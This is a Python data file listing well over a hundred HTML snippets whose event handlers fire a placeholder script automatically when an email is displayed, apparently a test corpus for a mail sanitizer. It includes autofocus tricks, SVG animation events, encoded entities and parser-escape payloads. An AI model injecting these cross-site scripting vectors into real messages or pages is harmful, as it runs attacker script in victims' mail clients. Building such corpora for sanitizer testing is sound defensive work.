"""Event handlers that fire by themselves while the mail is shown."""

FIRED = r"""
<img src=x: onerror=RUN>
<img src=x: OnErRoR=RUN>
<img src=x: onerror="RUN">
<img src=x: onerror='RUN'>
<img src=x: onerror[LF]=[TAB]RUN>
<img src=x: onerror=&#116;op.postMessage(NUMBER,`*`)>
<img src=x: onerror=&#x74op.postMessage(NUMBER,`*`)>
<img src=x: alt="a>b" onerror=RUN>
<img src=x: alt='"' title="'" onerror=RUN>
<img ''' src=x: onerror=RUN>
<img =x src=x: onerror=RUN>
<img <b src=x: onerror=RUN>
<image src=x: onerror=RUN>
<img srcset=x: onerror=RUN>
<img src="data:image/png,x" onerror=RUN>
<img src="PICTURE" onload=RUN>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload=RUN>
<picture><source srcset=x:><img src=y: onerror=RUN></picture>
<input type=image src=x: onerror=RUN>
<input type=image src="PICTURE" onload=RUN>
<video src=x: onerror=RUN></video>
<video src=x: onloadstart=RUN></video>
<video><source src=x: onerror=RUN></video>
<video src=x: onemptied=RUN onabort=RUN onerror=RUN></video>
<video poster=x: src=x: onerror="this.onerror=null;RUN"></video>
<audio src=x: onerror=RUN></audio>
<audio src=x: onloadstart=RUN autoplay></audio>
<audio controls src=x: onerror=RUN>
<audio><source onerror=RUN src=x:></audio>
<audio src="data:audio/wav;base64,WAV" onloadedmetadata=RUN></audio>
<audio src="data:audio/wav;base64,WAV" ondurationchange=RUN></audio>
<audio src="data:audio/wav;base64,WAV" onloadeddata=RUN></audio>
<audio src="data:audio/wav;base64,WAV" oncanplay=RUN preload=auto></audio>
<audio src="data:audio/wav;base64,WAV" oncanplaythrough=RUN preload=auto></audio>
<audio src="data:audio/wav;base64,WAV" onsuspend=RUN preload=metadata></audio>
<audio src="data:audio/wav;base64,WAV" onprogress=RUN preload=auto></audio>
<audio src="data:audio/wav;base64,WAV" autoplay muted onplay=RUN></audio>
<audio src="data:audio/wav;base64,WAV" autoplay muted onplaying=RUN></audio>
<audio src="data:audio/wav;base64,WAV" autoplay muted ontimeupdate=RUN></audio>
<audio src="data:audio/wav;base64,WAV" autoplay muted onended=RUN></audio>
<video src="data:audio/wav;base64,WAV"><track default src="data:text/vtt,WEBVTT" onload=RUN></video>
<video src="data:audio/wav;base64,WAV"><track default src=x: onerror=RUN></video>
<script src=x: onerror=RUN></script>
<script src="data:,1" onload=RUN></script>
<script type=module src="data:text/css,1" onerror=RUN></script>
<link rel=stylesheet href="data:text/css,x" onload=RUN>
<link rel=stylesheet href=x: onerror=RUN>
<link rel=preload as=image href="PICTURE" onload=RUN>
<link rel=modulepreload href=x: onerror=RUN>
<style onload=RUN></style>
<style onload=RUN>p{color:red}</style>
<style onerror=RUN>@import "x:";</style>
<iframe onload=RUN></iframe>
<iframe src=about:blank onload=RUN></iframe>
<iframe srcdoc=x onload=RUN></iframe>
<frameset onload=RUN><frame></frameset>
<frameset><frame onload=RUN></frameset>
<frameset onpageshow=RUN>
<object data="data:text/html,x" onload=RUN></object>
<embed src="data:text/html,x" onload=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<body onerror=RUN><script>{</script>
<body onerror=RUN><script>throw 1</script>
<body onmessage=RUN><script>postMessage(1)</script>
<body onhashchange=RUN><script>location.hash=1</script>
<body onresize=RUN><script>dispatchEvent(new Event("resize"))</script>
<html onload=RUN><body onload=RUN>
</p><body onload=RUN>
<p><body/onload=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg onload="RUN" />
<svg><svg onload=RUN></svg></svg>
<svg><image href=x: onerror=RUN />
<svg><image xlink:href="PICTURE" onload=RUN />
<svg><script href=x: onerror=RUN /></svg>
<svg><animate attributeName=x dur=1ms onbegin=RUN />
<svg><animate attributeName=x dur=1ms onend=RUN />
<svg><animate attributeName=x dur=1ms repeatCount=3 onrepeat=RUN />
<svg><set attributeName=x onbegin=RUN />
<svg><set attributeName=x to=y dur=1ms onend=RUN />
<svg><animateTransform attributeName=transform dur=1ms onbegin=RUN />
<svg><animateMotion path="M0 0" dur=1ms onbegin=RUN />
<svg><rect><animate attributeName=width values=1;2 dur=1ms onbegin=RUN /></rect></svg>
<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>
<svg></p><img src=x: onerror=RUN>
<svg><title><img src=x: onerror=RUN></title></svg>
<svg><style><img src=x: onerror=RUN></style></svg>
<math><mtext><img src=x: onerror=RUN></mtext></math>
<math><img src=x: onerror=RUN>
<details open ontoggle=RUN>x</details>
<details open ontoggle="RUN"><summary>x</summary></details>
<details name=a open ontoggle=RUN></details>
<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onanimationstart=RUN>x</p>
<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onanimationend=RUN>x</p>
<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onwebkitanimationstart=RUN>x</p>
<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onwebkitanimationend=RUN>x</p>
<style>@keyframes k{}p{animation:k 1ms}</style><div onanimationstart=RUN><p>x</p></div>
<div oncontentvisibilityautostatechange=RUN style="content-visibility:auto;display:block">x</div>
<div onscroll=RUN style="overflow:auto;height:9px"><input style="margin-top:99px" autofocus></div>
<div><template shadowrootmode=open><img src=x: onerror=RUN></template></div>
<div><template shadowrootmode=closed><svg onload=RUN></svg></template></div>
<div><template shadowrootmode=open><slot onslotchange=RUN></slot></template>x</div>
<noscript><b a="</noscript><img src=x: onerror=RUN>">
<textarea><b a="</textarea><img src=x: onerror=RUN>">
<template></template><img src=x: onerror=RUN>
<select><option><img src=x: onerror=RUN></select><img src=x: onerror=RUN>
<table><img src=x: onerror=RUN></table>
<xmp></xmp ><img src=x: onerror=RUN>
<listing><img src=x: onerror=RUN></listing>
<iframe srcdoc="<img src=x: onerror=RUN>"></iframe>
<p/title=x/onclick=y><img src=x: onerror=RUN>
<img/src="x:"onerror=RUN>
<img/src="x:"/onerror=RUN>
<img title="a&#10;b" src=x: onerror=RUN>
""".strip().split("\n")

# One focus for the whole page: each of these is shown alone.
FOCUSED = r"""
<body onfocus=RUN><input autofocus>
<svg><a tabindex=0 autofocus onfocus=RUN><text y=20>x</text></a></svg>
<input autofocus onfocus=RUN>
<input autofocus onfocusin=RUN>
<input type=file autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN></textarea>
<a href autofocus onfocus=RUN>x</a>
<p tabindex=0 autofocus onfocus=RUN>x</p>
<div contenteditable autofocus onfocus=RUN>x</div>
<td tabindex=-1 autofocus onfocus=RUN><b tabindex=-1 autofocus onfocus=RUN>x</b>
<form onfocusin=RUN><input autofocus></form>
<p onfocusout=RUN><input autofocus onfocus=this.blur()></p>
<input autofocus onblur=RUN onfocus=this.blur()>
<dialog open tabindex=0 autofocus onfocus=RUN>x</dialog>
""".strip().split("\n")
